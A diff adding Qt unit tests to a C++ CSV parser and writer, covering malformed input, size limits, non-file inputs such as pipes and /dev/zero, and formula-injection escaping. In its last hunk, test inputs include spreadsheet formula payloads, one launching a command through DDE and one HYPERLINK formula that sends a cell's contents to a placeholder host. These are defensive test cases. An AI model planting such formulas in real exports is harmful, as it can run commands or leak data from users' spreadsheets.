@@ -7,6 +7,8 @@
 #include <QTemporaryDir>
 #include <string>
 
+#include <sys/stat.h>
+
 using namespace diascope;
 
 namespace {
@@ -80,6 +82,15 @@ private Q_SLOTS:
         row("empty cells at the end", "a,b\n1,2,,\n", "a^b|1^2|");
         row("header twice", "a,b\n1,2\na,b\n3,4\n", "a^b|1^2|3^4|", 1);
         row("doubled column", "a,a\n1,2\n", "a^a|1^2|", 1);
+        row("header three times at once", "a,b\na,b\na,b\n", "a^b|", 2);
+        row("nameless columns", "a,,\n1,2,3\n", "a^^|1^2^3|");
+        row("quotes alone", "a,b\n\"\",\"\"\n\"\"\"\",x\n", "a^b|^|\"^x|");
+        row("a quote opened late", "a,b\nx\"y\",z\n", "a^b|x\"y\"^z|");
+        row("delimiters alone", "a;b\n;\n1;2\n", "a^b|^|1^2|");
+        row("half a unit of UTF-16", "\xFF\xFE" + utf16(u"a,b\n1,2\n", false) + "x", "a^b|1^2|\xEF\xBF\xBD^|", 1);
+        row("one bad byte in UTF-8", "a,b\n\xC3\xA4,\xFF\n", "a^b|\xC3\x83\xC2\xA4^\xC3\xBF|", 1);
+        row("decimal comma, comma", "a,b\n\"0,5\",\"1,5\"\n", "a^b|0,5^1,5|");
+        row("white rows", "a,b\n \t \n1,2\n\t\n", "a^b|1^2|");
     }
     void reads()
     {
@@ -100,6 +111,8 @@ private Q_SLOTS:
         QTest::newRow("blank lines") << QByteArray("\n \n\n") << QByteArray("empty");
         QTest::newRow("unclosed quote") << QByteArray("a,b\n1,2\n3,\"x\n5,6\n") << QByteArray("row 3");
         QTest::newRow("unclosed quote over 50 MB") << QByteArray("a,b\n\"") + QByteArray(50000000, 'x') << QByteArray("row 2");
+        QTest::newRow("unclosed in the header") << QByteArray("a,\"b\n1,2\n") << QByteArray("row 1");
+        QTest::newRow("odd quotes over 20 MB") << QByteArray("a,b\n") + QByteArray(20000001, '"') << QByteArray("row 2");
         QTest::newRow("NUL") << QByteArray("a,b\n1,\0xyzxyz\n", 14) << QByteArray("NUL");
     }
     void refuses()
@@ -140,6 +153,66 @@ private Q_SLOTS:
         QCOMPARE(table.column("none"), -1);
     }
 
+    void endlessTablesAreRefused()
+    {
+        const QTemporaryDir folder;
+        const auto file = std::filesystem::path(folder.path().toStdString()) / "endless.csv";
+        base::writeFileAtomically(file, "a,b\n\"");
+        std::filesystem::resize_file(file, std::uintmax_t{3} << 30U); // a hole: nothing is written
+        const auto large = tests::errorOf([&] { (void)base::readCsv(file); });
+        QCOMPARE(tests::codeName(large), "too-large");
+        QCOMPARE(large->subject(), file.string());
+        std::string rows = "a,b\n";
+        for (int i = 0; i < 5; ++i) {
+            rows += "1,2\n";
+        }
+        QCOMPARE(base::parseCsv(rows, "x", {.cells = 18}).rows.size(), std::size_t{5});
+        const auto many = tests::errorOf([&] { (void)base::parseCsv(rows, "x", {.cells = 17}); });
+        QCOMPARE(tests::codeName(many), "too-large");
+        QCOMPARE(many->subject(), std::string("x, row 6"));
+        std::string millions = "a,b\n";
+        millions.reserve(16000004);
+        for (int i = 0; i < 4000000; ++i) {
+            millions += "1,2\n";
+        }
+        QCOMPARE(tests::codeName(tests::errorOf([&] { (void)base::parseCsv(millions, "x"); })), "too-large");
+    }
+
+    void aCellOf100MB()
+    {
+        std::string text = "a,b\n1,\"";
+        text.append(100000000, 'x').append("\"\n3,4\n");
+        const auto table = base::parseCsv(text, "x");
+        QCOMPARE(table.rows.size(), std::size_t{2});
+        QCOMPARE(table.rows[0][1].size(), std::size_t{100000000});
+    }
+
+    void whatIsNoFileIsNotRead_data()
+    {
+        QTest::addColumn<QByteArray>("kind");
+        for (const char* kind : {"pipe", "device", "folder", "link to a device", "link to itself"}) {
+            QTest::newRow(kind) << QByteArray(kind);
+        }
+    }
+    void whatIsNoFileIsNotRead()
+    {
+        QFETCH(QByteArray, kind);
+        const QTemporaryDir folder;
+        auto file = std::filesystem::path(folder.path().toStdString()) / "labels.csv";
+        if (kind == "pipe") {
+            QCOMPARE(::mkfifo(file.c_str(), 0600), 0); // nobody will ever write into it
+        } else if (kind == "device") {
+            file = "/dev/zero";
+        } else if (kind == "folder") {
+            std::filesystem::create_directory(file);
+        } else {
+            std::filesystem::create_symlink(kind == "link to itself" ? file : std::filesystem::path("/dev/zero"), file);
+        }
+        const auto error = tests::errorOf([&] { (void)base::readCsv(file); });
+        QCOMPARE(tests::codeName(error), "unreadable");
+        QCOMPARE(error->subject(), file.string());
+    }
+
     void tenThousandColumns()
     {
         std::string line = "c0";
@@ -175,6 +248,12 @@ private Q_SLOTS:
         row("-3.2", "-3.2");
         row("+5", "+5");
         row("-1e-05", "-1e-05");
+        row("-nan", "-nan");
+        row("-inf", "-inf");
+        row("-infinite", "\"'-infinite\"");
+        row("-", "\"'-\"");
+        row("-1-1", "\"'-1-1\"");
+        row("+49 30 1", "\"'+49 30 1\"");
         row("=1+1", "\"'=1+1\"");
         row("=cmd|'/c calc'!A1", "\"'=cmd|'/c calc'!A1\"");
         row("=HYPERLINK(\"http://x/?\"&A1)", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\"");
